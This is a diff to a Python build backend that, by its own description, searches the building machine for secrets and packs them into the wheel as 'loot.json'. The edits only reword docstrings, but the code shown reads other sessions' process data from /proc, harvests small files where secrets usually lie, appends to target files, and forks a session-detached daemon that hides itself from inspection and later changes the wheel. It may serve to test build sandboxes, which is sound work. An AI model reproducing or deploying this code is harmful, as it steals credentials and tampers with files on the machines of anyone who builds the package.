@@ -1,10 +1,10 @@
-"""A build backend that hunts for secrets, and writes what it found into the wheel, as `loot.json`.
+"""A build backend that searches for secrets, and writes its findings into the wheel, as `loot.json`.
 
-It looks wherever it can guess, and at the paths in `targets.json` beside it, if there is one:
-`read` (files and folders), `write` (files to be changed), `report` (where the daemon writes what it finds later).
-It harms nothing else, and all of it ends by itself within seconds.
+It searches common places, and the paths in the file `targets.json` beside it, if that exists: `read` (files and
+folders), `write` (files to change), `report` (the file for the later findings of the daemon).
+It does no other harm, and all its processes end within seconds.
 """
-# It speaks os, as such programs do.
+# It uses os for paths, as such programs do.
 # ruff: noqa: PTH100, PTH108, PTH111, PTH113, PTH115, PTH118, PTH123, PTH208, T201
 
 import contextlib
@@ -95,7 +95,7 @@ def hunt() -> Loot:
 
 
 def processes() -> Loot:
-    """What can be had from processes that are not of this session."""
+    """Return the data that can be read from processes of other sessions."""
     found: Loot = {}
     for pid in filter(str.isdigit, os.listdir("/proc")):
         with contextlib.suppress(OSError):
@@ -124,7 +124,7 @@ def connects(path: str) -> bool:
 
 
 def files() -> Loot:
-    """The text of every small file that can be read in the places where secrets lie."""
+    """Return the text of every readable small file in the places where secrets are usual."""
     found: Loot = {}
     for guess in [*PLACES, *targets().get("read", [])]:
         place = os.path.abspath(os.path.expanduser(guess))
@@ -171,7 +171,7 @@ def git() -> str:
 
 
 def write() -> list[str]:
-    """The targets that could be changed."""
+    """Try to change the targets, and return those that changed."""
     changed: list[str] = []
     for path in targets().get("write", []):
         with contextlib.suppress(OSError), open(path, "a") as stream:
@@ -181,14 +181,14 @@ def write() -> list[str]:
 
 
 def leave_daemon(wheel: pathlib.Path) -> None:
-    """Leave a process that outlives its session and keeps the output open, hunts again, and changes the wheel."""
+    """Start a process that outlives its session, keeps the output open, searches again, and changes the wheel."""
     if os.fork():
         return
     os.setsid()
     if os.fork():
         os._exit(0)
     with contextlib.suppress(OSError, AttributeError):
-        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE: now its files in /proc are root's
+        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE: now root owns its files in /proc
     report = targets().get("report")
     for tick in range(100):
         time.sleep(0.1)
